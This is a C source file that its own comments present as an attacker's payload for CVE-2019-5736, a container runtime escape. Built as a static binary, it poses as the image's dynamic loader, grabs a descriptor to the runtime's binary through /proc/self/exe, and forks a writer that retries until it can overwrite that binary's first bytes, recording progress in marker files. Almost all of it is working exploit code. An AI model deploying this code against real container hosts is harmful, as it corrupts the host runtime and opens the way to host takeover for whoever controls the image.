/* CVE-2019-5736 payload, as an attacker controlling the image writes it. Installed as the
 * image's /lib64/ld-linux-x86-64.so.2 while /bin/sh is the script "#!/proc/self/exe": when
 * the runtime execs /bin/sh, the kernel runs /proc/self/exe (the runtime's own binary, if
 * the runtime lets it) with this as its dynamic loader.
 *
 * As the loader it opens /proc/self/exe read-only, records the inode it got in
 * /payload-started, and forks a "writer" (this file exec'd again, holding the descriptor
 * but no longer running the runtime's binary) that retries opening /proc/self/fd/N for
 * writing (ETXTBSY while any process runs the binary) and writes "PWNED" over its first
 * bytes, recording the outcome in /payload-done. As pid 1 the loader becomes a "waiter"
 * (this file again) that reaps the writer; otherwise it exits at once.
 *
 * Built with: cc -static -nostdlib -fno-pie -no-pie -O1 -fno-stack-protector */
#define O_RDONLY 0
#define O_WRONLY 1
#define O_CREAT 0100
#define O_TRUNC 01000
#define SELF "/lib64/ld-linux-x86-64.so.2"

static long sys6(long n, long a, long b, long c, long d) {
    long ret;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return ret;
}

static int fmt(char *out, unsigned long v) {
    char tmp[24];
    int n = 0, i = 0;
    do { tmp[n++] = '0' + v % 10; v /= 10; } while (v);
    while (n) out[i++] = tmp[--n];
    return i;
}

static void note(const char *path, const char *text, int len) {
    long fd = sys6(2, (long)path, O_WRONLY | O_CREAT | O_TRUNC, 0644, 0);
    if (fd >= 0) { sys6(1, fd, (long)text, len, 0); sys6(3, fd, 0, 0, 0); }
}

static void quit(int code) { for (;;) sys6(231, code, 0, 0, 0); }

static int is(const char *a, const char *b) {
    while (*a && *a == *b) { a++; b++; }
    return *a == *b;
}

static void writer(const char *fd) {
    char path[48] = "/proc/self/fd/";
    int p = 14;
    while (*fd && p < 46) path[p++] = *fd++;
    path[p] = 0;
    for (int i = 0; i < 100; i++) {
        long w = sys6(2, (long)path, O_WRONLY, 0, 0);
        if (w >= 0) {
            long r = sys6(18, w, (long)"PWNED", 5, 0); /* pwrite64 at offset 0 */
            note("/payload-done", r == 5 ? "wrote\n" : "write failed\n", r == 5 ? 6 : 13);
            quit(0);
        }
        long ts[2] = {0, 100000000};
        sys6(35, (long)ts, 0, 0, 0); /* nanosleep 100 ms */
    }
    note("/payload-done", "busy\n", 5);
    quit(0);
}

void payload(long *sp) {
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    if (argc >= 2 && is(argv[0], "writer")) writer(argv[1]);
    if (argc >= 1 && is(argv[0], "waiter")) {
        while (sys6(61, -1, 0, 0, 0) > 0) {} /* wait4 until no children */
        quit(0);
    }
    unsigned long st[18];
    char num[24];
    long fd = sys6(2, (long)"/proc/self/exe", O_RDONLY, 0, 0);
    if (fd < 0) { note("/payload-started", "open failed\n", 12); quit(9); }
    sys6(5, fd, (long)st, 0, 0); /* fstat: st[1] is st_ino */
    int n = fmt(num, st[1]);
    num[n] = '\n';
    note("/payload-started", num, n + 1);
    num[fmt(num, fd)] = 0;
    char *none[] = {0};
    if (sys6(57, 0, 0, 0, 0) == 0) { /* fork */
        char *wargv[] = {"writer", num, 0};
        sys6(59, (long)SELF, (long)wargv, (long)none, 0);
        quit(8);
    }
    if (sys6(39, 0, 0, 0, 0) == 1) { /* pid 1 keeps the container alive */
        char *pargv[] = {"waiter", 0};
        sys6(59, (long)SELF, (long)pargv, (long)none, 0);
    }
    quit(0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall payload\n\thlt\n");
